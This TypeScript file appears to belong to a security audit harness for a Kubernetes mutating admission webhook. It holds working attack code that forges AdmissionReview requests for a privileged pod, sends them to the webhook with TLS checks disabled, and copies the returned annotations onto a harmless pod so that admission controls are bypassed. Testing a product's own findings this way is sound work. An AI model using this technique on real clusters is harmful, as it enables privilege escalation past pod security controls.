// Findings 1 and 5: what somebody gets who reaches the webhook over the network, and whom he keeps waiting.
import { Agent, request } from 'undici';
import { stopped, type Attack, type Outcome } from './attack.ts';
import type { Attacked } from './attacked.ts';
import { ELECT, path } from './clusters.ts';
import { elected, evil, harmless, judgeDelegate, makePod, RESTRICTED, unlessRefused } from './pods.ts';

/** The path that is in the documentation. */
const PLAIN = '/mutate--v1-pod';

/** Where API servers ask the webhook. */
export async function webhookUrl({ source }: Attacked): Promise<URL> {
  const at = path('apis/admissionregistration.k8s.io/v1', 'mutatingwebhookconfigurations', undefined, 'isthmus');
  const { webhooks } = await source.admin.json<{
    readonly webhooks: readonly { readonly clientConfig: { readonly url: string } }[];
  }>({ method: 'GET', path: at });
  return new URL(webhooks[0]!.clientConfig.url);
}

function reviewOf(pod: object, namespace: string, username: string): object {
  const kind = { group: '', version: 'v1', kind: 'Pod' };
  const asked = {
    uid: 'u',
    kind,
    resource: { group: '', version: 'v1', resource: 'pods' },
    namespace,
    operation: 'CREATE',
    userInfo: { username },
    object: pod,
    oldObject: null,
  };
  return { kind: 'AdmissionReview', apiVersion: 'admission.k8s.io/v1', request: asked };
}

/** What a stranger gets from the webhook: the annotations that it writes, or the status. */
async function askWebhook(url: string, review: object): Promise<Readonly<Record<string, string>> | number> {
  const dispatcher = new Agent({ connect: { rejectUnauthorized: false } });
  try {
    const { statusCode, body } = await request(url, {
      dispatcher,
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(review),
    });
    const text = await body.text();
    if (statusCode !== 200) return statusCode;
    const { response } = JSON.parse(text) as {
      readonly response: { readonly allowed: boolean; readonly patch?: string };
    };
    return annotationsOf(response.patch ?? '');
  } finally {
    await dispatcher.close();
  }
}

function annotationsOf(patch: string): Readonly<Record<string, string>> {
  const prefix = '/metadata/annotations/';
  const operations = JSON.parse(Buffer.from(patch, 'base64').toString() || '[]') as readonly {
    readonly path: string;
    readonly value: unknown;
  }[];
  const written = operations.flatMap(({ path: to, value }) =>
    to.startsWith(prefix) && typeof value === 'string'
      ? [[to.slice(prefix.length).replaceAll('~1', '/').replaceAll('~0', '~'), value] as const]
      : [],
  );
  return { ...ELECT, ...Object.fromEntries(written) };
}

/** Has an evil pod reviewed by the webhook, and makes a harmless one that carries the annotations of the answer. */
async function paste(attacked: Attacked, namespace: string, to: (configured: URL) => string): Promise<Outcome> {
  await attacked.namespace(namespace, RESTRICTED);
  const tenant = await attacked.tenant(attacked.source, namespace);
  const metadata = { namespace, name: 'pasted' };
  const pod = { apiVersion: 'v1', kind: 'Pod', ...elected(metadata, evil()) };
  const answer = await askWebhook(
    to(await webhookUrl(attacked)),
    reviewOf(pod, namespace, `system:serviceaccount:${namespace}:tenant`),
  );
  if (typeof answer === 'number') return stopped(`the webhook answers ${answer}`);
  return unlessRefused(async () =>
    judgeDelegate(
      attacked,
      await makePod(tenant, namespace, { metadata: { ...metadata, annotations: answer }, spec: harmless() }),
    ),
  );
}

/** These attacks. */
export const WEBHOOK_ATTACKS: readonly Attack[] = [
  {
    finding: 1,
    what: 'a stranger has a privileged pod reviewed on the documented path; a harmless pod carries the answer',
    make: (attacked) => paste(attacked, 'pasted-plain', ({ origin }) => `${origin}${PLAIN}`),
  },
  {
    finding: 1,
    what: 'the same on the path that API servers ask on, as if it were known',
    make: (attacked) => paste(attacked, 'pasted-secret', ({ href }) => href),
  },
];
